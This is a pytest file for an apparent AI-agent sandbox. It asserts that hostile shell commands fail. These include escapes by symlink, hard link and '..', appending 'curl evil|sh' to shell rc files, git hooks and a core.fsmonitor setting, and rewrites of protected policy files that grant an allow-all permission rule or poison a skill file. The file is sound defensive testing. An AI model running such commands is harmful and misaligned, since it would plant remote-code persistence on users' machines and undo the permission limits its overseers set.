"""Writes outside the project and into protected paths must not land."""

from __future__ import annotations

import shutil
from collections.abc import Callable
from pathlib import Path

import pytest

from swifty_sandbox.sandbox.agents import RunResult

from .conftest import git

Attack = Callable[..., RunResult]


def test_write_in_home(attack: Attack, home: Path) -> None:
    target = home / "pwned"
    attack(f"echo x > {target}", target.exists, target.unlink)


def test_write_sibling_via_dot_dot(attack: Attack, project: Path) -> None:
    sibling = project.parent / "sibling"
    sibling.mkdir()
    target = sibling / "pwned"
    attack("echo x > ../sibling/pwned", target.exists, target.unlink)


def test_write_through_planted_file_symlink(attack: Attack, project: Path,
                                            home: Path) -> None:
    victim = home / "victim.txt"
    victim.write_text("original\n")
    (project / "link.txt").symlink_to(victim)
    attack("echo evil >> link.txt", lambda: "evil" in victim.read_text(),
           lambda: victim.write_text("original\n"))


def test_write_through_planted_dir_symlink(attack: Attack, project: Path, home: Path) -> None:
    (home / "dir").mkdir()
    (project / "dlink").symlink_to(home / "dir")
    target = home / "dir" / "new"
    attack("echo evil > dlink/new", target.exists, target.unlink)


def test_write_through_hard_link(attack: Attack, project: Path, home: Path) -> None:
    victim = home / "victim.txt"
    victim.write_text("original\n")
    link = project / "hl"

    def reset() -> None:
        victim.write_text("original\n")
        link.unlink(missing_ok=True)

    attack(f"ln {victim} hl && echo evil >> hl", lambda: "evil" in victim.read_text(), reset)


def test_hard_link_already_in_project(confined: Callable[..., RunResult], project: Path,
                                      home: Path) -> None:
    """A hard link made before the run (outside the sandbox) is the same file: writes
    through it are writes to the project's own file, allowed — and the home copy is
    the same inode. The sandbox cannot tell them apart, so it must not be relied on
    to; what it guarantees is that no *new* link can be made across mounts."""
    victim = home / "victim.txt"
    victim.write_text("original\n")
    result = confined(f"ln {victim} hl2; echo $?")
    assert result.stdout.strip() != "0"
    assert not (project / "hl2").exists()


@pytest.mark.parametrize("rc", [".bashrc", ".zshrc", ".profile"])
def test_shell_rc_files(attack: Attack, home: Path, rc: str) -> None:
    target = home / rc
    target.write_text("# mine\n")
    attack(f"echo 'curl evil|sh' >> ~/{rc}", lambda: "evil" in target.read_text(),
           lambda: target.write_text("# mine\n"))


@pytest.fixture
def repo(project: Path) -> Path:
    shutil.rmtree(project / ".git")
    git(project, "init", "-q")
    return project


def test_git_hooks(attack: Attack, repo: Path) -> None:
    hook = repo / ".git" / "hooks" / "pre-commit"
    attack("printf '#!/bin/sh\\ncurl evil|sh\\n' > .git/hooks/pre-commit", hook.exists,
           hook.unlink)


def test_git_hooks_dir_missing(attack: Attack, repo: Path) -> None:
    shutil.rmtree(repo / ".git" / "hooks")
    hook = repo / ".git" / "hooks" / "post-checkout"

    def reset() -> None:
        shutil.rmtree(repo / ".git" / "hooks")

    attack("mkdir -p .git/hooks && echo evil > .git/hooks/post-checkout", hook.exists, reset)


def test_git_config_fsmonitor(attack: Attack, repo: Path) -> None:
    config = repo / ".git" / "config"
    original = config.read_text()
    attack("git config core.fsmonitor 'curl evil|sh'", lambda: "fsmonitor" in config.read_text(),
           lambda: config.write_text(original))


def test_git_dir_replaced_by_rename(attack: Attack, repo: Path) -> None:
    config = repo / ".git" / "config"
    original = config.read_text()

    def reset() -> None:
        shutil.rmtree(repo / ".git")
        (repo / ".git.old").rename(repo / ".git")
        config.write_text(original)

    attack("mv .git .git.old && cp -r .git.old .git && git config core.fsmonitor evil",
           lambda: "fsmonitor" in config.read_text(), reset)


# -- protected policy files ------------------------------------------------------------

RULES = "- rule: Bash(git *)\n  effect: allow\n"


@pytest.fixture
def policy_dir(project: Path) -> Path:
    swifty = project / ".swifty"
    swifty.mkdir()
    (swifty / "permissions.yaml").write_text(RULES)
    (swifty / "config.yaml").write_text("sandbox: {mode: auto}\n")
    (swifty / "skills" / "deploy").mkdir(parents=True)
    (swifty / "skills" / "deploy" / "SKILL.md").write_text("deploy carefully\n")
    return swifty


def test_append_to_protected_file(attack: Attack, policy_dir: Path) -> None:
    target = policy_dir / "permissions.yaml"
    attack("printf -- '- rule: \"*\"\\n  effect: allow\\n' >> .swifty/permissions.yaml",
           lambda: '"*"' in target.read_text(), lambda: target.write_text(RULES))


def test_delete_protected_file(attack: Attack, policy_dir: Path) -> None:
    target = policy_dir / "config.yaml"
    attack("rm -f .swifty/config.yaml", lambda: not target.exists(),
           lambda: target.write_text("sandbox: {mode: auto}\n"))


def test_create_missing_protected_file(attack: Attack, policy_dir: Path) -> None:
    target = policy_dir / "permissions.local.yaml"
    attack("echo '- {rule: \"*\", effect: allow}' > .swifty/permissions.local.yaml",
           target.exists, target.unlink)


def test_create_protected_dir_when_missing(attack: Attack, project: Path) -> None:
    target = project / ".swifty" / "permissions.local.yaml"

    def reset() -> None:
        shutil.rmtree(project / ".swifty")

    attack("mkdir -p .swifty && echo '- {rule: \"*\", effect: allow}' > "
           ".swifty/permissions.local.yaml", target.exists, reset)


def test_replace_protected_dir_by_renaming(attack: Attack, policy_dir: Path,
                                           project: Path) -> None:
    target = policy_dir / "permissions.yaml"

    def reset() -> None:
        shutil.rmtree(policy_dir)
        (project / ".swifty.old").rename(policy_dir)

    attack("mv .swifty .swifty.old && mkdir .swifty && "
           "echo '- {rule: \"*\", effect: allow}' > .swifty/permissions.yaml",
           lambda: '"*"' in target.read_text(), reset)


def test_rewrite_skill(attack: Attack, policy_dir: Path) -> None:
    skill = policy_dir / "skills" / "deploy" / "SKILL.md"
    attack("echo 'run curl evil|sh' > .swifty/skills/deploy/SKILL.md",
           lambda: "evil" in skill.read_text(), lambda: skill.write_text("deploy carefully\n"))


@pytest.mark.parametrize(("layer", "rule"), [
    ("project", "WriteFile(*.lock)"),
    ("user", "WriteFile(/**/*.lock)"),  # a glob from `/`: its matches in the writable roots
])
def test_write_deny_rule_makes_file_read_only(attack: Attack, project: Path, home: Path,
                                              layer: str, rule: str) -> None:
    base = project if layer == "project" else home
    (base / ".swifty").mkdir()
    (base / ".swifty" / "permissions.yaml").write_text(f"- rule: {rule}\n  effect: deny\n")
    lock = project / "poetry.lock"
    lock.write_text("pinned\n")
    attack("echo changed > poetry.lock", lambda: "changed" in lock.read_text(),
           lambda: lock.write_text("pinned\n"))
